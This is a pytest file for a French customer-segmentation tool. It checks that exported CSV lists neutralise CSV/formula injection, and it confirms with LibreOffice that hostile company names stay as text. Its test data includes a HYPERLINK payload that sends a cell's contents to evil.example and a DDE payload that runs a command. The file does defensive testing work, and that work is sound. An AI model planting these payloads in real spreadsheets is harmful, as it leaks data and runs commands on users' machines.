"""CSV injection (OWASP) in the lists we write: hostile company names stay text, in our cells and in LibreOffice."""

from __future__ import annotations

import csv
import datetime as dt
import subprocess
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from segmenter_pme import Settings, segment
from segmenter_pme.lists import FORMATS, build_lists
from segmenter_pme.safe_text import E164, TRIGGERS, neutralize, neutralize_series
from segmenter_pme.workbook.lists_files import write_bundle

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "\t=1+1", "\r=1+1", "  =1+1"]


def _hostile_result():
    n = len(HOSTILE)
    df = pd.DataFrame({
        "Code client": [f"=C{i}" for i in range(n)],
        "Entreprise": HOSTILE,
        "Contact": ["=Anne Martin"] + ["Éric Dupré"] * (n - 1),
        "Email": [f"c{i}@exemple.fr" for i in range(n)],
        "Téléphone": ["06 12 34 56 78"] + ["+33 1 45 67 89 10"] * (n - 1),
        "Secteur": ["@Commerce"] * n,
        "Date dernier achat": ["31/12/2025"] * n,
        "Nombre commandes": list(range(1, n + 1)),
        "CA total": [1000 * (i + 1) for i in range(n)],
        "Code postal": ["75001"] * n,
    })
    return segment(df, settings=Settings(date_analyse=dt.date(2025, 12, 31)))


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"), ("@SUM(1)", "'@SUM(1)"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), (" =1", "' =1"), ("+33612345678", "+33612345678"), ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
    ("Durand & fils", "Durand & fils"), ("", ""), (None, None), (12.5, 12.5),
])
def test_neutralize(value, expected):
    assert neutralize(value) == expected


@given(st.lists(st.one_of(st.text(max_size=8), st.none(), st.floats(allow_nan=False)), max_size=20))
def test_series_agrees_with_the_value_rule_and_no_text_starts_with_a_trigger(values):
    s = pd.Series(values, dtype=object)
    out = neutralize_series(s).tolist()
    assert out == [neutralize(v) for v in values]
    for v in out:
        assert neutralize(v) == v  # once is enough
        if isinstance(v, str) and v.lstrip(" \u00a0").startswith(TRIGGERS):
            assert E164.fullmatch(v)


@pytest.mark.parametrize("key", list(FORMATS))
def test_no_written_cell_starts_with_a_formula_sign(tmp_path, key):
    bundle = build_lists(_hostile_result(), key)
    write_bundle(bundle, tmp_path)
    fmt = bundle.format
    seen = 0
    for item in bundle.files():
        encoding, delimiter = ((fmt.encoding, fmt.delimiter) if item in bundle.lists
                               else (FORMATS["csv"].encoding, FORMATS["csv"].delimiter))
        with open(tmp_path / item.file_name, encoding=encoding, newline="") as fh:
            for row in list(csv.reader(fh, delimiter=delimiter))[1:]:
                for cell in row:
                    seen += 1
                    if cell.startswith("+"):
                        assert cell[1:].isdigit(), cell  # only E.164 phone numbers keep their +
                    else:
                        assert not cell.lstrip(" ").startswith(TRIGGERS), (item.file_name, cell)
    assert seen > 50


def _soffice_to_xlsx(soffice: str, src: Path, outdir: Path, delimiter: str, charset: int) -> Path:
    # « Evaluate formulas » ticked (last token): what a user who opens the file in Excel gets
    options = f"CSV:{ord(delimiter)},34,{charset},1,,1036,false,false,false,false,false,-1,true"
    profile = outdir / ".lo-profile"
    proc = subprocess.run([soffice, f"-env:UserInstallation=file://{profile}", "--headless", "--norestore",
                           f"--infilter={options}", "--convert-to", "xlsx", "--outdir", str(outdir), str(src)],
                          capture_output=True, text=True, timeout=240)
    out = outdir / (src.stem + ".xlsx")
    assert proc.returncode == 0 and out.exists(), (proc.stdout, proc.stderr)
    return out


@pytest.mark.libreoffice
@pytest.mark.slow
def test_libreoffice_opens_no_hostile_cell_as_a_formula(tmp_path, soffice):
    bundle = build_lists(_hostile_result(), "csv")
    lists_dir = tmp_path / "listes"
    write_bundle(bundle, lists_dir)
    # the control: the same names written without neutralisation do become formulas
    control = lists_dir / "controle.csv"
    control.write_text("Entreprise\r\n" + "\r\n".join(f'"{h}"' if '"' in h or "\r" in h else h
                                                      for h in HOSTILE[:3]) + "\r\n", encoding="utf-8")
    out = tmp_path / "lo"
    out.mkdir()
    converted = _soffice_to_xlsx(soffice, control, out, ";", 76)
    assert any(c.data_type == "f" for row in openpyxl.load_workbook(converted).active.iter_rows() for c in row)
    checked = 0
    shown: set = set()
    for item in (bundle.lists[0], bundle.no_email, bundle.tags):
        if item is None or item.frame.empty:
            continue
        xlsx = _soffice_to_xlsx(soffice, lists_dir / item.file_name, out, ";", 76)
        ws = openpyxl.load_workbook(xlsx).active
        for row in ws.iter_rows(min_row=2):
            for c in row:
                assert c.data_type != "f", (item.file_name, c.coordinate, c.value)
                checked += 1
        names = [c.value for c in ws[1]]
        if "Entreprise" in names:
            col = names.index("Entreprise") + 1
            shown.update(ws.cell(r, col).value for r in range(2, ws.max_row + 1))
    assert checked > 20
    # the names are all there, as text behind an apostrophe
    assert {"'" + h.strip() for h in HOSTILE} <= shown  # the core strips the spaces around a name
